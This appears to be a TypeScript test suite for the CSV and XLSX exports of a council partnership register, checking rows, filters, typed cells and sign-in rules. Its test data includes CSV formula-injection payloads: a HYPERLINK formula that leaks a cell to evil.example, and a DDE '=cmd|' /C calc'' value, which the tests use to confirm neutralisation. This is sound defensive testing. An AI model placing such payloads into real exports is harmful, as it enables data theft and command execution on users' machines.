// the register exported as CSV and XLSX, read back with csv-parse and exceljs and compared
// with the register list's own rows: every page, the filters and search honoured, formulas neutralised
// in the CSV, typed cells in the workbook.
import assert from 'node:assert/strict';
import { after, before, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { SYSTEM } from '../../src/app/deps.ts';
import { createOrganisation } from '../../src/app/organisations.service.ts';
import { createPartnership } from '../../src/app/partnerships.service.ts';
import { createPerson } from '../../src/app/people.service.ts';
import { createPriority } from '../../src/app/priorities.service.ts';
import { registerCsv, registerXlsx } from '../../src/app/register-export.ts';
import { findPartnershipView } from '../../src/db/repositories/partnerships.repo.ts';
import { searchRegister, type RegisterRow } from '../../src/db/repositories/register.repo.ts';
import type { PartnershipView } from '../../src/domain/register/records.ts';
import type { PartnershipDetails } from '../../src/domain/register/partnership.ts';
import { parseRegisterQuery, type RegisterQuery } from '../../src/domain/register/register-query.ts';
import { LEGAL_FORMS, LEGAL_FORM_LABELS, RATIONALE_LABELS, STATUS_LABELS, type Status } from '../../src/domain/register/vocabulary.ts';
import { Client } from '../helpers/app.ts';
import { startApp, type TestApp } from '../helpers/app.ts';
import { TestClock } from '../helpers/clock.ts';
import { forEachDatabase } from '../helpers/databases.ts';
import { writeStatusForTest } from '../helpers/lifecycle.ts';
import { makeUser, organisationDetails, partnershipDetails, personDetails, signedIn } from '../helpers/factories.ts';

// 23:30 UTC on 31 March 2026 is already 1 April in London (BST): the file is named for the UK day.
const NOW = '2026-03-31T23:30:00.000Z';
const UK_DAY = '2026-04-01';

// Six statuses the rows cycle through (named here: the vocabulary's list grows).
const SIX_STATUSES = ['proposed', 'screened', 'business-case', 'approved', 'setting-up', 'operating'] as const;

const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")', '+44 1632 960000 helpline', '-5', '@SUM(A1:A9)'];

type Listed = RegisterRow & { view: PartnershipView };

/** The register list's rows for a query, every page of them, as the list page would show them, each with its partnership's page record. */
async function listRows(t: TestApp, params: Record<string, string | string[]>): Promise<Listed[]> {
  const { query } = parseRegisterQuery(params);
  const out: RegisterRow[] = [];
  for (let page = 1; ; page++) {
    const { items, total } = await searchRegister(t.deps.database.db, { kind: 'all' }, { ...query, page });
    out.push(...items);
    if (out.length >= total || items.length === 0) break;
  }
  return Promise.all(out.map(async (r) => ({ ...r, view: (await findPartnershipView(t.deps.database.db, r.id))! })));
}

// Written out here rather than taken from the code under test, so a wrong cell fails.
const pounds = (pence: number | null) => (pence === null ? '' : (pence / 100).toFixed(2));
const safe = (s: string) => (/^[=+\-@\t\r]/.test(s) ? `'${s}` : s);
const ROLE = { lead: 'lead / accountable body', member: 'member', associate: 'associate', funder: 'funder' } as const;
const MEMBER = { voting: 'voting', 'non-voting': 'non-voting', observer: 'observer' } as const;
const partnersText = (r: Listed) => r.view.partnerViews.map((p) => `${p.name} (${ROLE[p.role]}; ${MEMBER[p.memberStatus]})`).join('; ');
const representativesText = (r: Listed) => r.view.representativeViews.map((p) => `${p.name} (${p.capacity})`).join('; ');
const prioritiesText = (r: Listed) => r.view.priorityViews.map((p) => `${p.title}: ${p.how}`).join('; ');
const WELLBEING = { economic: 'Economic', social: 'Social', environmental: 'Environmental' } as const;
const budget = (b: boolean | null) => (b === null ? '' : b ? 'Yes' : 'No');

function expectedCsvRecord(r: Listed): string[] {
  const v = r.view;
  return [
    r.reference,
    safe(r.name),
    STATUS_LABELS[r.status],
    LEGAL_FORM_LABELS[r.legalForm],
    safe(r.purpose),
    safe(v.expectedOutcomes),
    v.rationale.map((x) => RATIONALE_LABELS[x]).join('; '),
    v.wellbeing.map((x) => WELLBEING[x]).join('; '),
    r.startDate ?? '',
    r.expectedEndDate ?? '',
    safe(v.durationDescription ?? ''),
    pounds(r.councilContributionPence),
    budget(r.withinApprovedBudget),
    safe(v.resourcesStaff ?? ''),
    safe(v.resourcesAssets ?? ''),
    safe(v.resourcesInKind ?? ''),
    safe(prioritiesText(r)),
    safe(partnersText(r)),
    safe(r.sponsoringOfficerName ?? ''),
    safe(r.accountableOfficerName ?? ''),
    safe(representativesText(r)),
  ];
}

const HEADERS = [
  'Reference',
  'Name',
  'Status',
  'Legal form',
  'Purpose',
  'Expected outcomes',
  'Why the council is in it',
  'Well-being',
  'Start date',
  'Expected end date',
  'Expected duration',
  'Council contribution per year (£)',
  'Within approved budget',
  'Staff',
  'Operational assets',
  'In-kind and other commitments',
  'Corporate priorities and how it serves them',
  'Partners (role; member status)',
  'Sponsoring officer',
  'Accountable officer',
  'Council representatives',
];

interface Csv {
  text: string;
  records: string[][];
}

function readCsv(body: string): Csv {
  assert.ok(body.startsWith('\uFEFF'), 'the CSV starts with a UTF-8 byte order mark');
  const text = body.slice(1);
  assert.ok(text.endsWith('\r\n'), 'the last record ends with CRLF');
  // Parsing with CRLF as the only record delimiter: a bare LF between records would merge them.
  const records = parse(text, { record_delimiter: '\r\n', relax_column_count: false }) as string[][];
  return { text, records };
}

async function readXlsx(payload: Buffer): Promise<ExcelJS.Worksheet> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(payload as unknown as ArrayBuffer);
  const sheet = workbook.getWorksheet('Partnership register');
  assert.ok(sheet, 'the workbook has a "Partnership register" sheet');
  return sheet;
}

forEachDatabase('register exports', (ctx) => {
  let t: TestApp;
  let auditor: Client;
  let officerId: string;
  const clock = new TestClock(NOW);

  before(async () => {
    t = await startApp(ctx.database, { clock });
    const council = await createOrganisation(t.deps, SYSTEM, organisationDetails('Test Borough Council', { isThisCouncil: true }));
    const police = await createOrganisation(t.deps, SYSTEM, organisationDetails('Wealdshire Police'));
    const risky = await createOrganisation(t.deps, SYSTEM, organisationDetails('@Risky Partners Ltd', { sector: 'private' }));
    const cvs = await createOrganisation(t.deps, SYSTEM, organisationDetails('Brackenford CVS, Ltd "the CVS"', { sector: 'vcse' }));
    const officer = await createPerson(t.deps, SYSTEM, personDetails('Jo Officer', council.id, { jobTitle: 'Head of Partnerships', councilRole: 'officer' }));
    const dash = await createPerson(t.deps, SYSTEM, personDetails('-Sam Dash', council.id, { councilRole: 'officer' }));
    officerId = officer.id;
    const cllr = await createPerson(t.deps, SYSTEM, personDetails('Cllr Ann Lee', council.id, { councilRole: 'councillor' }));
    const greener = await createPriority(t.deps, SYSTEM, { title: 'A greener borough', description: null, active: true });
    const safer = await createPriority(t.deps, SYSTEM, { title: 'Safer streets', description: null, active: true });

    const base = (i: number): PartnershipDetails => partnershipDetails({
      name: `Partnership ${String(i).padStart(2, '0')}`,
      purpose: `Purpose of partnership ${i}`,
      expectedOutcomes: 'Better outcomes',
      rationale: i % 3 ? ['cross-cutting-issues'] : ['coordinated-services', 'statutory-requirement'],
      wellbeing: i % 2 ? ['social'] : ['economic', 'environmental'],
      durationDescription: i % 4 ? null : `${i} years`,
      resourcesStaff: i % 2 ? `${i} FTE` : null,
      resourcesAssets: i % 3 ? null : 'A depot',
      resourcesInKind: i === 7 ? '@desk space, and "hot" desks' : null,
      representatives: i % 2 ? [{ personId: cllr.id, capacity: 'councillor' }, { personId: officer.id, capacity: 'officer' }] : [],
      priorities: i % 3 ? [{ priorityId: greener.id, how: `Less landfill ${i}` }] : [{ priorityId: greener.id, how: 'Recycling' }, { priorityId: safer.id, how: 'Joint patrols' }],
      legalForm: LEGAL_FORMS[i % LEGAL_FORMS.length]!,
      startDate: i % 4 === 0 ? null : `20${String(10 + (i % 15)).padStart(2, '0')}-0${1 + (i % 9)}-1${i % 10}`,
      expectedEndDate: i % 3 === 0 ? `2035-12-31` : null,
      councilContributionPence: i % 5 === 0 ? null : i * 1_234_567 + (i % 2 ? 50 : 0),
      withinApprovedBudget: i % 5 === 0 ? null : i % 2 === 0,
      sponsoringOfficerId: i % 2 ? officer.id : null,
      accountableOfficerId: i % 3 ? dash.id : null,
      partners:
        i % 2
          ? [
              { organisationId: council.id, role: 'lead', memberStatus: 'voting' },
              { organisationId: police.id, role: 'member', memberStatus: 'voting' },
            ]
          : [
              { organisationId: risky.id, role: 'lead', memberStatus: 'voting' },
              { organisationId: cvs.id, role: 'associate', memberStatus: 'observer' },
              { organisationId: council.id, role: 'member', memberStatus: 'voting' },
            ],
    });
    // The exports are about the list, not the lifecycle: statuses are written directly (writeStatusForTest).
    const seed = async (d: PartnershipDetails, status: Status) => writeStatusForTest(t.deps, (await createPartnership(t.deps, SYSTEM, d)).id, status);
    // 30 ordinary partnerships: more than one page of the list (25 a page).
    for (let i = 1; i <= 30; i++) await seed(base(i), SIX_STATUSES[i % 6]!);
    // Formula-shaped names, and text with commas, quotes, line breaks and non-ASCII characters.
    for (const [i, name] of HOSTILE.entries()) {
      await seed({
        ...base(31 + i),
        name,
        purpose: i === 0 ? 'Line one, with a comma\nLine two with "quotes" – and £ signs, café' : `=cmd|' /C calc'!A${i}`,
      }, 'operating');
    }
    auditor = await signedIn(t.app, await makeUser(t.deps, 'auditor'));
  });
  after(() => t.close());

  it('R-2.6.11 the CSV is every partnership in the list order, all pages, with a BOM, CRLF and a dated filename', async () => {
    const res = await auditor.get('/partnerships/export.csv');
    assert.equal(res.statusCode, 200);
    assert.match(String(res.headers['content-type']), /^text\/csv; charset=utf-8/);
    assert.equal(res.headers['content-disposition'], `attachment; filename="partnership-register-${UK_DAY}.csv"`);
    assert.equal(res.rawPayload.subarray(0, 3).toString('hex'), 'efbbbf', 'UTF-8 byte order mark');
    const { records } = readCsv(res.body);
    const rows = await listRows(t, {});
    assert.equal(rows.length, 34);
    assert.deepEqual(records[0], HEADERS);
    assert.deepEqual(records.slice(1), rows.map(expectedCsvRecord));
  });

  it('R-2.6.11 one row per partnership, every answer of each; both downloads are streamed (chunked, no length)', async () => {
    const total = Number((await t.deps.database.db.selectFrom('partnerships').select((eb) => eb.fn.countAll().as('n')).executeTakeFirstOrThrow()).n);
    for (const ext of ['csv', 'xlsx']) {
      const res = await auditor.get(`/partnerships/export.${ext}`);
      assert.equal(res.statusCode, 200);
      assert.equal(res.headers['content-length'], undefined, `${ext}: no length known in advance`);
      assert.equal(res.headers['transfer-encoding'], 'chunked', ext);
    }
    const { records } = readCsv((await auditor.get('/partnerships/export.csv')).body);
    assert.equal(records.length - 1, total, 'one row per partnership');
    assert.equal(new Set(records.slice(1).map((r) => r[0])).size, total, 'no partnership twice (many partners, representatives and priorities each)');
    const withEverything = records.find((r) => r[14] === 'A depot' && r[20] !== '')!;
    assert.ok(withEverything, 'a partnership with assets and representatives');
    assert.match(withEverything[16]!, /^A greener borough: Recycling; Safer streets: Joint patrols$/);
    assert.equal(withEverything[20], 'Cllr Ann Lee (councillor); Jo Officer (officer)');
    assert.equal(withEverything[6], 'To deliver coordinated packages of services to residents; To fulfil a statutory requirement');
  });

  it('R-2.6.11 formula-shaped cells are neutralised in the CSV, and other text survives intact', async () => {
    const res = await auditor.get('/partnerships/export.csv?q=helpline');
    const { records } = readCsv(res.body);
    assert.equal(records.length, 2);
    assert.equal(records[1]![1], "'+44 1632 960000 helpline");

    const all = readCsv((await auditor.get('/partnerships/export.csv')).body).records;
    const names = all.map((r) => r[1]);
    for (const name of HOSTILE) {
      assert.ok(names.includes(`'${name}`), `${name} exported with a leading quote`);
      assert.ok(!names.includes(name), `${name} never exported as it was typed`);
    }
    const hyperlink = all.find((r) => r[1] === `'${HOSTILE[0]}`)!;
    assert.equal(hyperlink[4], 'Line one, with a comma\nLine two with "quotes" – and £ signs, café');
    assert.equal(all.find((r) => r[1] === "'-5")![4], `'=cmd|' /C calc'!A2`);
    // Partners and officers whose names start a formula are neutralised too.
    assert.ok(all.some((r) => r[17] === "'@Risky Partners Ltd (lead / accountable body; voting); Brackenford CVS, Ltd \"the CVS\" (associate; observer); Test Borough Council (member; voting)"));
    assert.ok(all.some((r) => r[19] === "'-Sam Dash"));
    assert.ok(all.some((r) => r[15] === `'@desk space, and "hot" desks`));
    for (const record of all) for (const cell of record) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `cell ${JSON.stringify(cell)}`);
  });

  it('R-2.6.11 the CSV honours the search, filters and sort of the list, and ignores paging', async () => {
    const cases: Array<Record<string, string | string[]>> = [
      { status: ['operating', 'proposed'], sort: 'reference', order: 'desc' },
      { legalForm: 'latco', sort: 'contribution' },
      { q: 'partnership', minContribution: '10000', sort: 'start', order: 'desc' },
      { sector: 'private', sort: 'status' },
      { q: 'partnership', page: '2', pageSize: '5' },
      { q: 'no such partnership anywhere' },
    ];
    cases.push({ sponsor: officerId, sort: 'name', order: 'desc' });
    const counts: number[] = [];
    for (const params of cases) {
      const search = new URLSearchParams();
      for (const [k, v] of Object.entries(params)) for (const x of Array.isArray(v) ? v : [v]) search.append(k, x);
      const { records } = readCsv((await auditor.get(`/partnerships/export.csv?${search}`)).body);
      const { page: _page, pageSize: _size, ...unpaged } = params;
      const rows = await listRows(t, unpaged);
      counts.push(rows.length);
      assert.deepEqual(records.slice(1), rows.map(expectedCsvRecord), search.toString());
    }
    // Each case is a real filter: it keeps some rows and drops others (the empty search aside).
    assert.deepEqual(counts.map((n) => n > 0 && n < 34), [true, true, true, true, true, false, true]);
    assert.equal(counts[5], 0);
    const paged = readCsv((await auditor.get('/partnerships/export.csv?q=partnership&page=2&pageSize=5')).body).records;
    assert.equal(paged.length - 1, 30, 'every matching row, not the page asked for');
    const none = readCsv((await auditor.get('/partnerships/export.csv?q=no+such+partnership+anywhere')).body).records;
    assert.deepEqual(none, [HEADERS], 'nothing matching: the header row alone');
  });

  it('R-2.6.11 reading in small batches gives exactly the same CSV and workbook rows', async () => {
    const { query } = parseRegisterQuery({ sort: 'reference' });
    const text = async (q: RegisterQuery, batch?: number) => {
      let s = '';
      for await (const chunk of await registerCsv(t.deps.database.db, { kind: 'all' }, q, batch)) s += String(chunk);
      return s;
    };
    const whole = await text(query);
    assert.equal(await text(query, 7), whole);
    assert.equal(await text(query, 34), whole);
    assert.equal(readCsv(whole).records.length, 35);
    const chunks: Buffer[] = [];
    for await (const chunk of await registerXlsx(t.deps.database.db, { kind: 'all' }, query, clock.now(), 7)) chunks.push(chunk as Buffer);
    const sheet = await readXlsx(Buffer.concat(chunks));
    assert.equal(sheet.actualRowCount, 35);
  });

  it('R-2.6.11 the XLSX has the same rows, with typed cells: money numeric in pounds, dates as dates', async () => {
    const res = await auditor.get('/partnerships/export.xlsx?sort=contribution&order=desc');
    assert.equal(res.statusCode, 200);
    assert.equal(res.headers['content-type'], 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    assert.equal(res.headers['content-disposition'], `attachment; filename="partnership-register-${UK_DAY}.xlsx"`);
    const sheet = await readXlsx(res.rawPayload);
    const rows = await listRows(t, { sort: 'contribution', order: 'desc' });
    assert.equal(sheet.actualRowCount, rows.length + 1);

    const header = sheet.getRow(1);
    assert.deepEqual((header.values as unknown[]).slice(1), HEADERS);
    for (let c = 1; c <= HEADERS.length; c++) assert.equal(header.getCell(c).font?.bold, true, `header ${c} is bold`);
    assert.equal(sheet.views[0]?.state, 'frozen');
    assert.equal((sheet.views[0] as { ySplit?: number }).ySplit, 1, 'the header row is frozen');
    assert.ok(sheet.autoFilter, 'the sheet has an autofilter');
    assert.match(JSON.stringify(sheet.autoFilter), /A1/);
    assert.ok((sheet.getColumn(2).width ?? 0) >= 30, 'the name column is set wide');

    rows.forEach((r, i) => {
      const row = sheet.getRow(i + 2);
      const where = `row ${i + 2} (${r.reference})`;
      assert.equal(row.getCell(1).value, r.reference, where);
      // Text is stored as text, exactly as typed: a string cell is never evaluated by a spreadsheet.
      assert.equal(row.getCell(2).type, ExcelJS.ValueType.String, where);
      assert.equal(row.getCell(2).value, r.name, where);
      assert.equal(row.getCell(2).formula, undefined, where);
      assert.equal(row.getCell(3).value, STATUS_LABELS[r.status], where);
      assert.equal(row.getCell(4).value, LEGAL_FORM_LABELS[r.legalForm], where);
      assert.equal(row.getCell(5).value, r.purpose, where);
      assert.equal(row.getCell(6).value, r.view.expectedOutcomes, where);
      assert.equal(row.getCell(7).value, r.view.rationale.map((x) => RATIONALE_LABELS[x]).join('; '), where);
      assert.equal(row.getCell(17).value, prioritiesText(r), where);
      assert.equal(row.getCell(18).value, partnersText(r), where);
      assert.equal(row.getCell(19).value ?? null, r.sponsoringOfficerName || null, where);
      assert.equal(row.getCell(20).value ?? null, r.accountableOfficerName || null, where);
      assert.equal(row.getCell(21).value ?? null, representativesText(r) || null, where);

      const money = row.getCell(12);
      if (r.councilContributionPence === null) assert.equal(money.value ?? null, null, where);
      else {
        assert.equal(money.type, ExcelJS.ValueType.Number, where);
        assert.equal(money.value, r.councilContributionPence / 100, where);
        assert.equal(money.numFmt, '"£"#,##0.00', where);
      }
      assert.equal(row.getCell(13).value ?? '', budget(r.withinApprovedBudget), where);
      for (const [col, date] of [
        [9, r.startDate],
        [10, r.expectedEndDate],
      ] as const) {
        const cell = row.getCell(col);
        if (date === null) assert.equal(cell.value ?? null, null, where);
        else {
          assert.equal(cell.type, ExcelJS.ValueType.Date, where);
          assert.ok(cell.value instanceof Date, where);
          assert.equal((cell.value as Date).toISOString(), `${date}T00:00:00.000Z`, where);
          assert.equal(cell.numFmt, 'dd/mm/yyyy', where);
        }
      }
    });
  });

  it('R-2.6.11 the XLSX honours the filters too', async () => {
    const sheet = await readXlsx((await auditor.get('/partnerships/export.xlsx?status=operating&q=partnership')).rawPayload);
    const rows = await listRows(t, { status: 'operating', q: 'partnership' });
    assert.ok(rows.length > 0 && rows.length < 34);
    assert.deepEqual(
      sheet.getRows(2, sheet.actualRowCount - 1)!.map((r) => r.getCell(1).value),
      rows.map((r) => r.reference),
    );
  });

  it('exports are static paths that /partnerships/:id never captures; other extensions are not found', async () => {
    assert.equal((await auditor.get('/partnerships/export.csv')).statusCode, 200);
    assert.equal((await auditor.get('/partnerships/export.xlsx')).statusCode, 200);
    assert.equal((await auditor.get('/partnerships/export.json')).statusCode, 404);
  });

  it('R-2.6.11 every signed-in role can export; anyone else is sent to sign in', async () => {
    for (const role of ['administrator', 'officer', 'auditor'] as const) {
      const client = role === 'auditor' ? auditor : await signedIn(t.app, await makeUser(t.deps, role));
      for (const ext of ['csv', 'xlsx']) assert.equal((await client.get(`/partnerships/export.${ext}`)).statusCode, 200, `${role} ${ext}`);
    }
    const anonymous = new Client(t.app);
    for (const url of ['/partnerships/export.csv?status=operating', '/partnerships/export.xlsx']) {
      const res = await anonymous.get(url);
      assert.equal(res.statusCode, 303);
      assert.equal(res.headers.location, `/sign-in?returnTo=${encodeURIComponent(url)}`);
      assert.doesNotMatch(res.body, /Partnership 01/);
    }
  });

  it('the list page links to both exports with its filters', async () => {
    const page = await auditor.get('/partnerships?status=operating&q=partnership&page=2');
    assert.equal(page.statusCode, 200);
    assert.match(page.body, /href="\/partnerships\/export\.csv\?q=partnership&amp;status=operating"/);
    assert.match(page.body, /href="\/partnerships\/export\.xlsx\?q=partnership&amp;status=operating"/);
  });
});
